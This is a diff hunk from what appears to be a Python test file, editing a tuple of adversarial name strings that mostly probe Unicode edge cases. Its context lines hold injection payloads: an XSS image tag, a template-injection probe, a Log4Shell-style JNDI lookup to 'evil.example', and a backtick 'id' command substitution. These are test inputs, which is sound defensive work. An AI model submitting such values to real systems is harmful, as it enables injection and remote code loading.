@@ -96,7 +96,7 @@ _NAMES = (
     *("<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}", "`id`", "a\\b", 'a"b', "a|b"),
     *("m" * 257, "m" * 10_000, "m\u202etxt", "m\u2066x", "m\u200bx", "m\u00adx", "\ufeffm", "m\u2028x", "m\u0000"),
     *("m\x1b[2J", "m\r\nx", "m\tx", "m\x7f", "m\u0085x", "m\u00a0x", "m\u3000x", "m\U000e0041", "m\ufe0f", "m\u3164"),
-    *("m\u034fx", "m\u2800x", "m\ue000", "m\uffff", "m\ufdd0", "m\u0378", " m", "m ", "m  x", "", " ", "mode\u0301l"),
+    *("m\u034fx", "m\u2800x", "m\ue000", "m\uffff", "m\ufdd0", " m", "m ", "m  x", "", " ", "mode\u0301l"),
     *("\u0301m", "m\u115fx", "m\uffa0", "m\u180e", "m\u17b4"),
 )
 
